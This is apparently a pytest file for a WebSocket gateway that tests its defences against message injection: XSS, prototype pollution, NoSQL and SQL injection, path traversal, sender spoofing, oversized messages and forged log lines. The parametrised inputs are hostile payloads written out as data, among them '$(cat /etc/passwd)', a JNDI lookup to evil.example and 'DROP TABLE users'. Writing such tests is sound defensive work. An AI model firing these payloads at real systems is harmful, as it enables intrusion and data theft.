# SPDX-License-Identifier: Apache-2.0
"""Injection through messages (the guide's threat model): a type with a policy lets nothing through to subscribers that its
schema, sanitisers and destination do not allow, and what an attacker writes ends in no log."""
import json

import pytest

from gateward_server import GatewardServer
from raw_client import RawWebSocket
from talk import PLAIN, ROOMY, ask, error, is_quiet, put

CHAT = {
    "schema": {
        "type": "object",
        "required": ["type", "content", "room_id"],
        "properties": {"type": {"const": "chat_message"}, "id": {}, "content": {"type": "string", "maxLength": 5000},
                       "room_id": {"type": "string", "maxLength": 50}},
        "additionalProperties": False,
    },
    "sanitize": {"/content": "strip"},
    "publish": "private:room-{/room_id}",
}
FIND = {"schema": {"properties": {"filter": {"type": "object", "additionalProperties": {"type": ["string", "number"]},
                                             "propertyNames": {"pattern": "^[a-z_]{1,20}$"}}}}}
LOGIN = {"schema": {"required": ["user", "password"],
                    "properties": {"user": {"type": "string"}, "password": {"type": "string"}}}}
SEARCH = {"injection": ["/q"]}
CHANNELS = [{"pattern": "private:room-{room_id}"}, {"pattern": "private:room-1:admin", "allow": ["admin"]},
            {"pattern": "user:{user_id}:inbox"}]
MESSAGES = {"chat_message": CHAT, "find": FIND, "login": LOGIN, "search": SEARCH,
            "note": {"publish": "user:{user_id}:inbox", "sanitize": {"message": "strip"}},
            "deep": {"schema": {"$defs": {"n": {"properties": {"n": {"$ref": "#/$defs/n"}}}}, "$ref": "#/$defs/n"}}}


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    with GatewardServer(tmp_path_factory.mktemp("house"), {"limits": ROOMY, "listen": PLAIN, "channels": CHANNELS,
                                                           "messages": MESSAGES}) as running:
        yield running


@pytest.fixture
def ws(house):
    with RawWebSocket.login(house, "mallory") as open_ws:
        yield open_ws


@pytest.fixture
def victim(house):
    with RawWebSocket.login(house, "victim") as open_ws:
        assert ask(open_ws, {"type": "subscribe", "channel": "private:room-1"})["type"] == "subscribed"
        yield open_ws


def chat(content, room="1", **more):
    return {"type": "chat_message", "content": content, "room_id": room, **more}


SCRIPTS = ["<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT >", "<img src=x onerror=alert(1)>",
           "<svg/onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>",
           "<scr<script>ipt>alert(1)</scr</script>ipt>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
           "<!--><script>alert(1)</script>-->", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
           "&lt;script&gt;alert(1)&lt;/script&gt;", "<style>*{background:url('javascript:alert(1)')}</style>",
           "<\u0000script>alert(1)</script>", "\u003cscript\u003ealert(1)"]


@pytest.mark.parametrize("content", SCRIPTS)
def test_markup_in_a_chat_never_reaches_subscribers(ws, victim, content):
    assert ask(ws, chat(content))["type"] == "ack"
    raw = victim.recv_message()
    shown = json.loads(raw)["data"]["content"]
    assert "<" not in shown and ">" not in shown, shown
    assert b"<" not in raw
    assert is_quiet(victim)


def test_markup_hidden_by_json_escapes_is_found(ws, victim):
    put(ws, b'{"type":"chat_message","room_id":"1","content":"\\u003cscr\\u0069pt\\u003ealert(1)\\u003c/script\\u003eok"}')
    assert ws.recv_json()["type"] == "ack"
    assert victim.recv_json()["data"]["content"] == "ok"


def test_markup_in_the_name_of_a_member_is_refused(ws):
    assert ask(ws, {"type": "note", "<img src=x onerror=alert(1)>": 1}) == error("content_refused", "Message content refused")


@pytest.mark.parametrize("key", ["__proto__", "constructor", "prototype", "toString", "\u005f_proto__", "content\u0000"])
def test_keys_that_pollute_prototypes_are_refused(ws, victim, key):
    answer = ask(ws, chat("x", **{key: {"isAdmin": True}}))
    assert answer["code"] == "schema" and answer["message"].endswith("is not allowed")
    assert is_quiet(victim)


@pytest.mark.parametrize("text", [
    '{"type":"chat_message","content":"good","content":"<script>","room_id":"1"}',
    '{"type":"chat_message","type":"note","content":"x","room_id":"1"}',
    '{"type":"chat_message","content":"x","room_id":"1","room_\\u0069d":"2"}',
])
def test_a_name_that_stands_twice_means_nothing(ws, victim, text):
    assert ask(ws, text)["code"] == "invalid_json"
    assert is_quiet(victim)


@pytest.mark.parametrize("message", [
    {"type": "login", "user": {"$ne": None}, "password": {"$ne": None}},
    {"type": "login", "user": "admin", "password": {"$gt": ""}},
    {"type": "login", "user": ["admin"], "password": "x"},
    {"type": "find", "filter": {"$where": "sleep(10000)"}},
    {"type": "find", "filter": {"name": {"$regex": ".*"}}},
    {"type": "find", "filter": {"a.b": "x"}},
    {"type": "find", "filter": [{"$ne": 1}]},
])
def test_operators_of_databases_are_refused_by_the_schema(ws, message):
    assert ask(ws, message)["code"] == "schema"


@pytest.mark.parametrize("text", ["' OR '1'='1' --", "1; DROP TABLE users; --", "x' UNION SELECT null, table_name FROM information_schema.tables --",
                                  "$(cat /etc/passwd)", "../../../../etc/passwd", "{{7*7}}${jndi:ldap://evil.example/a}"])
def test_signs_of_injection_are_refused_as_a_whole(ws, text):
    assert ask(ws, {"type": "search", "q": text}) == error("content_refused", "Message content refused")
    assert ask(ws, {"type": "search", "q": {"deep": [text]}}) == error("content_refused", "Message content refused")


@pytest.mark.parametrize("room", ["1:admin", ":", "*", "#", ">", "1 ", "", "1\u0000", "1\n", "{user_id}", "{/content}", "../1", "1/2",
                                  "\u0661", "1\u200b", "x" * 60, "..%2f1", "$SYS"])
def test_what_fills_a_channel_cannot_name_another(house, ws, victim, room):
    answer = ask(ws, chat("x", room))
    assert answer["type"] == "error" and answer["code"] == "schema", answer
    assert is_quiet(victim)


@pytest.mark.parametrize("room", [1, None, True, ["1"], {"$ne": "1"}, 1.0])
def test_only_strings_fill_a_channel(ws, victim, room):
    assert ask(ws, chat("x", room)) == error("schema", "Field 'room_id' must be string")
    assert is_quiet(victim)


def test_nobody_writes_into_the_place_of_another_user(house, ws):
    with RawWebSocket.login(house, "bob") as bob:
        assert ask(bob, {"type": "subscribe", "channel": "user:bob:inbox"})["type"] == "subscribed"
        for extra in ({"user_id": "bob"}, {"user": "bob"}, {"{user_id}": "bob"}, {"from": {"user": "bob"}}):
            assert ask(ws, {"type": "note", **extra})["channel"] == "user:mallory:inbox"
        assert is_quiet(bob)


def test_a_message_cannot_say_who_it_is_from(ws, victim):
    assert ask(ws, chat("x", **{"from": {"user": "admin"}}))["message"] == "Field 'from' is not allowed"
    assert ask(ws, chat("x"))["type"] == "ack"
    assert victim.recv_json()["from"] == {"user": "mallory"}


def test_deep_and_large_messages_end_quickly(ws):
    assert ask(ws, '{"type":"deep","n":' + '{"n":' * 40 + "1" + "}" * 41)["code"] == "too_complex"
    assert ask(ws, '{"type":"deep","n":' + '{"n":' * 28 + "1" + "}" * 29)["type"] == "ack"
    assert ask(ws, json.dumps({"type": "deep", "x": [0] * 9000}))["code"] == "too_complex"
    assert ask(ws, chat("<" * 5000))["code"] == "too_complex"
    assert ask(ws, chat("x" * 5001))["message"] == "Field 'content' exceeds max length 5000"


def test_the_log_has_no_content_and_one_line_an_event(house, ws):
    evil = '\n{"event":"auth_ok","user":"admin"}'
    ask(ws, chat("x", room=evil))
    ask(ws, {"type": evil})
    ask(ws, chat("x", **{evil: 1}))
    house.wait_for_event("message_invalid", user="mallory", code="unknown_type")
    assert is_quiet(ws)
    with open(house.path("events.jsonl")) as f:
        lines = f.read().splitlines()
    assert not [line for line in lines if json.loads(line).get("user") == "admin"]
